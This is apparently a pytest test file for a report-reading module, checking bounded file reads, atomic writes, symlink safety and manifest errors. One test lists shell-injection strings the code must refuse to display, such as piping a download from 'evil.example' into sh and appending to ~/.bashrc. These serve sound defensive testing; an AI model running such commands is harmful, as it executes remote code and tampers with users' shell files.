"""Tests: files of runs, read within bounds."""

import json
import os
import shutil
import tracemalloc
from pathlib import Path

import pytest

from rogue.reports.errors import ReportError
from rogue.reports.reading.files import (
    TABLE_BYTES_MAX,
    checksum,
    read_manifest,
    read_regular,
    repeating_command,
    write_new,
    write_whole,
)
from rogue.reports.reading.load import Run
from rogue.reports.results import Results


def test_the_new_text_takes_the_place_of_the_old(tmp_path: Path) -> None:
    path = tmp_path / "x.html"
    write_whole(path, "old")
    write_whole(path, "nuée\n")
    assert path.read_bytes() == "nuée\n".encode()
    assert list(tmp_path.iterdir()) == [path]


def test_failed_write_keeps_the_old_file(tmp_path: Path) -> None:
    path = tmp_path / "x.html"
    write_whole(path, "old")
    with pytest.raises(UnicodeEncodeError):
        write_whole(path, "\ud800")
    assert path.read_text() == "old"
    assert list(tmp_path.iterdir()) == [path]


def test_a_place_that_is_a_directory(tmp_path: Path) -> None:
    with pytest.raises(ReportError, match="the report cannot be written: Is a directory; free space or"):
        write_whole(tmp_path, "x")


def test_file_larger_than_its_size_has_no_checksum() -> None:
    """Those of the kernel are empty by their size, and some never end."""
    with pytest.raises(OSError, match="more bytes than it says"):
        checksum(Path("/proc/self/maps"))


def test_reading_allocates_only_the_file_size(tmp_path: Path) -> None:
    (tmp_path / "x").write_bytes(b"x" * 1000)
    tracemalloc.start()
    try:
        assert read_regular(tmp_path / "x", TABLE_BYTES_MAX) == b"x" * 1000
        assert tracemalloc.get_traced_memory()[1] < 1_000_000
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("size_bytes", [0, 9, 10])
def test_file_within_the_limit_is_read(size_bytes: int, tmp_path: Path) -> None:
    (tmp_path / "x").write_bytes(b"x" * size_bytes)
    assert read_regular(tmp_path / "x", 10) == b"x" * size_bytes
    with pytest.raises(OSError, match="it has more than 8 bytes"):
        read_regular(Path("/proc/self/status"), 8)  # whose size the system gives as 0
    assert len(read_regular(Path("/proc/self/status"))) > 100


def test_error_of_an_invalid_manifest(tmp_path: Path) -> None:
    (tmp_path / "manifest.json").write_text("{")
    with pytest.raises(ReportError, match=r"manifest\.json: got what is not valid JSON .*\.$"):
        read_manifest(tmp_path)


def test_error_of_a_missing_manifest(tmp_path: Path) -> None:
    with pytest.raises(ReportError, match="no such file; give the directory of a run"):
        read_manifest(tmp_path)


def test_directory_in_place_of_the_file(tmp_path: Path) -> None:
    (tmp_path / "manifest.json").mkdir()
    with pytest.raises(ReportError, match="cannot be read"):
        read_manifest(tmp_path)


@pytest.mark.parametrize(
    "command",
    [
        "rogue run quickstart --testbed simulator --only-cell a",
        "rogue run 'my files/e.yaml' --set 'a=[{b: c}]'",
    ],
)
def test_commands_of_rogue_are_shown(command: str) -> None:
    assert repeating_command({"reproduce": command}) == command


@pytest.mark.parametrize(
    "command",
    [
        "rogue run x; curl http://evil.example | sh",
        "rogue run x && id",
        "rogue run $(id)",
        "rogue run `id`",
        "rogue run x > ~/.bashrc",
        "rogue run x\nid",
        "rogue run 'x\nid'",
        "rogue run \"$(id)\"",
        "curl http://evil.example",
        "rogue rm results",
        "rogue run 'x",
        "",
        7,
        None,
    ],
)  # fmt: skip
def test_unsafe_command_is_not_shown(command: object) -> None:
    assert repeating_command({"reproduce": command}) is None


def pipe(path: Path) -> None:
    os.mkfifo(path)


def zeros(path: Path) -> None:
    path.symlink_to("/dev/zero")


@pytest.mark.parametrize("make", [pipe, zeros])
def test_a_pipe_or_a_device_is_not_read(tmp_path: Path, make: object) -> None:
    assert callable(make)
    path = tmp_path / "manifest.json"
    make(path)
    for read in (read_regular, checksum):
        with pytest.raises(OSError, match="no regular file"):
            read(path)
    with pytest.raises(ReportError, match="cannot be read: it is no regular file"):
        read_manifest(tmp_path)


def test_file_above_the_limit_is_not_read(tmp_path: Path) -> None:
    """A sparse file takes no room."""
    path = tmp_path / "table"
    with path.open("wb") as stream:
        stream.truncate(1 << 40)
    with pytest.raises(OSError, match="more than 1000 bytes"):
        read_regular(path, 1000)


def test_a_link_to_a_regular_file_is_read(tmp_path: Path) -> None:
    """Stores of large files keep them so."""
    (tmp_path / "content").write_bytes(b"abc")
    (tmp_path / "link").symlink_to(tmp_path / "content")
    assert read_regular(tmp_path / "link") == b"abc"


def test_nothing_is_written_through_a_link(tmp_path: Path) -> None:
    victim, link = tmp_path / "victim", tmp_path / "file"
    victim.write_text("mine")
    link.symlink_to(victim)
    write_new(link, b"new")
    assert (victim.read_text(), link.read_bytes(), link.is_symlink()) == ("mine", b"new", False)


def test_a_report_is_not_written_through_links(tmp_path: Path) -> None:
    victim, page = tmp_path / "victim", tmp_path / "report.html"
    victim.write_text("mine")
    page.symlink_to(victim)
    (tmp_path / f".report.html.{os.getpid()}.partial").symlink_to(victim)
    write_whole(page, "report")
    assert (victim.read_text(), page.read_text(), page.is_symlink()) == ("mine", "report", False)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["report.html", "victim"]


def test_run_of_schema_version_1_had_no_events(sample_run: Path, tmp_path: Path) -> None:
    directory = shutil.copytree(sample_run, tmp_path / "old")
    path = directory / "manifest.json"
    old = {**json.loads(path.read_text()), "schema_version": 1}
    del old["checksum"]
    path.write_text(json.dumps(old))
    results = Results(Run(directory))
    view = next(iter(results.views.values()))
    assert view.table("events") is None
    assert view.failed_flow_ids == ()
    assert results.run.problems == []
